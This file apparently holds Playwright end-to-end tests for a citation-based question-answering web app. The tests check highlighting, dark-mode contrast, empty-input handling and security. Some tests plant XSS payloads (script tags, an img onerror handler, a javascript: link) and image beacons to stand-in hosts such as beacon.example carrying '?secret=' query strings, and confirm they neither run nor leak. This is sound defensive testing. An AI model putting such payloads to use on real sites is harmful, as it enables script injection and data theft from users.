"""End to end in a real headless Chromium (Debian's), driven by Playwright."""

import re
import shutil
import tempfile
from pathlib import Path

import pytest

from tests.conftest import CANONICAL

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium not installed"),
]


@pytest.fixture(scope="module")
def page():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            tempfile.mkdtemp(prefix="chromium-"),
            executable_path=CHROMIUM,
            args=ARGS,
            viewport={"width": 1400, "height": 900},
        )
        yield context.new_page()
        context.close()


def ask(page, url: str, question: str) -> None:
    page.goto(url)
    page.locator("#question textarea").fill(question)
    page.locator("#ask").click()


def test_ask_click_citation_and_see_the_highlighted_sentence(page, app_url, service, tmp_path):
    ask(page, app_url, CANONICAL)
    marker = page.locator("#chat a.cite-marker").first
    marker.wait_for(timeout=120_000)
    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)  # stream finished
    answer = page.locator("#chat .message-row").last.inner_text()
    assert "time frame" in answer
    marker.click()
    source = page.locator("#sources .source.cited")
    source.wait_for(timeout=10_000)
    head = source.locator(".source-head").inner_text()
    start, end = map(int, re.search(r"chars (\d+)-(\d+)", head).groups())
    article = next(a for a in service.pipeline.articles if a.source in head)
    highlighted = source.locator("mark").inner_text()
    assert highlighted == article.text[start:end]
    assert "time frames" in highlighted or "rushing into a deal" in highlighted
    assert source.evaluate("e => e.getBoundingClientRect().top") < 900
    shot = tmp_path / "chat.png"
    page.screenshot(path=str(shot))
    assert shot.stat().st_size > 10_000


def test_script_inside_an_article_does_not_run(page, app_url, service, tmp_path):
    hostile = tmp_path / "hostile.txt"
    hostile.write_text(
        "Zanzibar ferry report\n\n"
        "The Zanzibar ferry <script>window.__pwned = 1</script>"
        '<img src=x onerror="window.__pwned=2"> '
        "was delayed by three hours on Friday.\n"
    )
    service.add_files([str(hostile)])
    ask(page, app_url, "How long was the Zanzibar ferry delayed?")
    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned === undefined")
    assert (
        "<script>" in page.locator("#sources").inner_text()
        or "three hours" in page.locator("#chat").inner_text()
    )


def test_an_answer_quoting_markup_loads_and_links_nothing_outside(page, app_url, service, tmp_path):
    """An article author's Markdown image, raw <img>, javascript: link or bare URL quoted in
    an answer must not make the reader's browser fetch anything or link anywhere else."""
    beacon = tmp_path / "beacon.txt"
    beacon.write_text(
        "Quokka island report\n\n"
        "The quokka census on Rottnest island counted twelve thousand animals "
        "![chart](http://beacon.example/x.png?q=secret) <img src='http://beacon.example/y.png'> "
        "[more](javascript:alert(1)) at https://evil.example/story and www.evil.example today.\n"
    )
    service.add_files([str(beacon)])
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(app_url)
    page.locator("#settings").get_by_text("Settings").click()  # extractive: whole sentences
    page.locator("#answerer input").click()
    page.get_by_role("option", name="extractive").click()
    page.locator("#question textarea").fill(
        "How many animals did the quokka census on Rottnest count, and what link did it give?"
    )
    page.locator("#ask").click()
    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)
    page.wait_for_timeout(500)
    answer = page.locator("#chat .message-row").last
    assert "twelve thousand animals" in answer.inner_text() and "chart" in answer.inner_text()
    origin = app_url.rstrip("/")
    assert [u for u in requested if not u.startswith((origin, "data:", "blob:"))] == []
    images = answer.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
    assert not any("beacon" in (src or "") for src in images)
    links = answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert links and all(href.startswith("#cite-") for href in links), links


def _luminance(rgb: str) -> float:
    channels = [int(c) / 255 for c in re.findall(r"\d+", rgb)[:3]]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_the_cited_sentence_is_readable_in_dark_mode(page, app_url):
    ask(page, f"{app_url.rstrip('/')}/?__theme=dark", CANONICAL)
    page.locator("#sources mark").first.wait_for(timeout=120_000)
    style = page.locator("#sources mark").first.evaluate(
        "e => [getComputedStyle(e).color, getComputedStyle(e).backgroundColor]"
    )
    lighter, darker = sorted(map(_luminance, style), reverse=True)
    assert (lighter + 0.05) / (darker + 0.05) >= 4.5, style  # WCAG AA for body text


def test_the_page_may_load_and_contact_nothing_but_its_own_server(page, app_url):
    """Defence in depth under the literal rendering: the Content-Security-Policy stops the
    browser from loading an image or opening a connection to any other origin, even if
    markup got into the page."""
    import http.server
    import threading

    from tests.ui.conftest import free_port

    hits: list[str] = []

    class Beacon(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    beacon = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Beacon)
    threading.Thread(target=beacon.serve_forever, daemon=True).start()
    other = f"http://127.0.0.1:{beacon.server_address[1]}"
    try:
        page.goto(app_url)
        page.locator("#question textarea").wait_for()
        blocked = page.evaluate(
            """async (other) => {
                const seen = [];
                document.addEventListener(
                    'securitypolicyviolation', e => seen.push(e.violatedDirective));
                const img = document.createElement('img');
                img.src = other + '/pixel.png?secret=1';
                document.body.appendChild(img);
                try { await fetch(other + '/leak?secret=2'); } catch (e) {}
                await new Promise(r => setTimeout(r, 1000));
                return seen;
            }""",
            other,
        )
    finally:
        beacon.shutdown()
    assert hits == []
    assert any(d.startswith("img-src") for d in blocked), blocked
    assert any(d.startswith("connect-src") for d in blocked), blocked


def test_an_empty_question_gets_an_inline_hint_and_no_error_overlay(page, app_url):
    page.goto(app_url)
    page.locator("#question textarea").fill("   ")
    page.locator("#ask").click()
    page.locator("#timings").get_by_text("Type a question").wait_for(timeout=30_000)
    assert page.locator(".toast-body, .error").count() == 0
    box = page.locator("#question textarea")
    assert box.is_enabled() and box.is_editable()


def test_a_citation_in_an_older_answer_shows_its_passage_and_keeps_the_chat(page, app_url):
    """On a URL with a query string (the page has a <base href>), clicking [1] of the first
    of two answers shows that answer's passage, with no navigation and no reload."""
    page.goto(f"{app_url.rstrip('/')}/?__theme=dark")
    for question in (CANONICAL, "What did Koffler say about Putin?"):
        page.locator("#question textarea").fill(question)
        page.locator("#ask").click()
        page.wait_for_timeout(500)
        page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)
    page.evaluate("window.__still_here = 1")
    first = page.locator("#chat .message-row").nth(1).locator("a.cite-marker").first
    first.click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__still_here") == 1 and "__theme=dark" in page.url
    assert page.locator("#chat .message-row").count() == 4  # the conversation is all there
    cited = page.locator("#sources .source.cited")
    assert cited.count() == 1 and cited.get_attribute("id").startswith("cite-1-")
    assert "time frame" in cited.inner_text() or "rushing into a deal" in cited.inner_text()
    assert page.locator("#sources .turn-sources:not([hidden])").count() == 1
